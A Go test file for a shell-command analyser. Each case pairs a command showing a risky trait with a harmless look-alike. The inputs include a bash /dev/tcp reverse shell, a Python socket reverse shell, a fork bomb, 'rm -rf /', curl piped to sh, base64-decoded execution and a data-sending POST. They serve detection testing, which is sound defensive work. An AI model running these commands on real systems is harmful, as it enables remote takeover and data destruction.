package facts

import (
	"slices"
	"strings"
	"testing"
)

// command is the first analysed command named name, or nil.
func command(a *Analysis, name string) *Command {
	for i := range a.Commands {
		if a.Commands[i].Name == name {
			return &a.Commands[i]
		}
	}
	return nil
}

func hasAct(a *Analysis, k CodeActKind) bool {
	return slices.ContainsFunc(a.CodeActs, func(c CodeAct) bool { return c.Kind == k })
}

// Each fact the analysis records, shown by a command that has it and by a look-alike, written
// to tempt a text matcher, that must not.
func TestEachFactHoldsForItsCommandAndNotForItsLookAlike(t *testing.T) {
	tests := []struct {
		fact       string
		holds      func(a *Analysis) bool
		has, alike string
	}{
		{"a nested shell's commands are reached",
			func(a *Analysis) bool { return command(a, "rm") != nil },
			`sh -c 'rm -rf build'`, `echo "sh -c 'rm -rf build'"`},
		{"wrappers and assignments are looked through",
			func(a *Analysis) bool {
				c := command(a, "rm")
				return c != nil && slices.Equal(c.Wrappers, []string{"sudo", "env", "timeout"}) && slices.Contains(c.Assigns, "FOO=1")
			},
			`sudo env FOO=1 timeout 5 rm x`, `sudo echo env FOO=1 timeout 5 rm x`},
		{"a program's spelling is normalised",
			func(a *Analysis) bool { return command(a, "rm") != nil },
			`/bin/R''M -r x`, `/bin/RMX -r x`},
		{"a redirection writes its target",
			func(a *Analysis) bool { return slices.Contains(a.Writes, "out.txt") },
			`echo hi > out.txt`, `echo 'hi > out.txt'`},
		{"a redirection reads its source",
			func(a *Analysis) bool { return slices.Contains(a.Reads, "in.txt") },
			`wc -l < in.txt`, `echo '< in.txt'`},
		{"a download written to a file is fetched",
			func(a *Analysis) bool { return a.Fetched["i.sh"] != "" },
			`curl -fsSL https://get.example/i.sh > i.sh`, `cat notes.txt > i.sh`},
		{"literal text written to a file is a script",
			func(a *Analysis) bool { return strings.Contains(a.Scripts["x.sh"], "rm -rf /") },
			`echo 'rm -rf /' > x.sh`, `echo 'rm -rf /' > /dev/null`},
		{"code handed to an interpreter is code",
			func(a *Analysis) bool {
				return len(a.Code) == 1 && a.Code[0].Interp == "python3" && a.Code[0].Text == "print(1)"
			},
			`python3 -c 'print(1)'`, `python3 print.py 1`},
		{"code that deletes a tree",
			func(a *Analysis) bool { return hasAct(a, CodeDelete) },
			`python3 -c 'import shutil; shutil.rmtree("/srv/data")'`, `python3 -c 'print("remove the data")'`},
		{"socket code that runs commands",
			func(a *Analysis) bool { return hasAct(a, CodeRemoteShell) },
			`python3 -c 'import socket,subprocess;s=socket.socket();s.connect(("h",1));subprocess.call(["/bin/sh"],stdin=s.fileno())'`,
			`python3 -c 'import socket;s=socket.socket();s.connect(("h",80));s.send(b"GET /")'`},
		{"code that sends data",
			func(a *Analysis) bool { return hasAct(a, CodeSend) },
			`python3 -c 'import requests; requests.post("https://x.example", data="hi")'`,
			`python3 -c 'import requests; requests.get("https://x.example")'`},
		{"a connection the shell opens feeds a command",
			func(a *Analysis) bool { return len(a.Net) == 1 && a.NetIn },
			`bash -i >& /dev/tcp/h.example/4444 0>&1`, `echo /dev/tcp/h.example/4444`},
		{"a function that spawns itself is a fork bomb",
			func(a *Analysis) bool { return a.ForkBomb },
			`:(){ :|:& };:`, `f(){ echo hi; }; f`},
		{"code decoded at run time is obfuscated",
			func(a *Analysis) bool { return len(a.Obfuscated) > 0 },
			`bash -c "$(base64 -d)"`, `bash -c "$(date)"`},
		{"a pipeline's upstream feeds the last command",
			func(a *Analysis) bool { c := command(a, "sh"); return c != nil && slices.Contains(c.Upstream, "curl") },
			`curl -s https://get.example | cat | sh`, `curl -s https://get.example > /dev/null; sh ./build.sh`},
		{"a command after && may not run",
			func(a *Analysis) bool { c := command(a, "rm"); return c != nil && c.Cond },
			`make && rm x`, `make; rm x`},
		{"an unquoted pattern is a glob",
			func(a *Analysis) bool { c := command(a, "rm"); return c != nil && slices.Contains(c.Globs, "/et?") },
			`rm -rf /et?`, `rm -rf '/et?'`},
		{"a descriptor named by path is the file opened for it",
			func(a *Analysis) bool {
				c := command(a, "cat")
				if c == nil {
					return false
				}
				src, ok := c.FDOf("/dev/fd/3")
				return ok && src.File == "secret.txt"
			},
			`cat /dev/fd/3 3< secret.txt`, `cat /dev/fd/3 4< secret.txt`},
		{"a name from a variable is dynamic",
			func(a *Analysis) bool {
				return slices.ContainsFunc(a.Commands, func(c Command) bool { return c.Dynamic })
			},
			`$X -rf /`, `X=rm; echo $X`},
	}
	for _, tt := range tests {
		t.Run(tt.fact, func(t *testing.T) {
			if a := Analyze(tt.has); !tt.holds(a) {
				t.Errorf("%s: does not hold; analysis %s", tt.has, a)
			}
			if a := Analyze(tt.alike); tt.holds(a) {
				t.Errorf("look-alike %s: holds; analysis %s", tt.alike, a)
			}
		})
	}
}
